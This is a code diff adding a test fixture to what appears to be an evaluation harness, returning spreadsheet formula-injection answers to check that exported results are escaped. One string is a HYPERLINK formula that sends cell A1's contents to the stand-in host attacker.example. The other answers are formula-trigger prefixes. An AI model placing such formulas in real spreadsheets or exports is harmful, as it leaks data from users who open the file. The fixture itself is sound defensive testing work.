@@ -44,3 +44,13 @@ def good(request: SystemRequest) -> dict[str, Any]:
 async def worse(request: SystemRequest) -> dict[str, Any]:
     """A prompt change that breaks the annual-leave answers and stops abstaining."""
     return _answer(request, broken=True)
+
+
+HOSTILE_ANSWER = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
+
+
+def spreadsheet_attack(request: SystemRequest) -> dict[str, Any]:
+    """Answers with cells a spreadsheet would run as formulas (issue 9, finding 11)."""
+    number = int(request.case_id.rsplit("-", 1)[-1])
+    answers = [HOSTILE_ANSWER, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "plain"]
+    return {"answer": answers[number % len(answers)], "abstained": False}
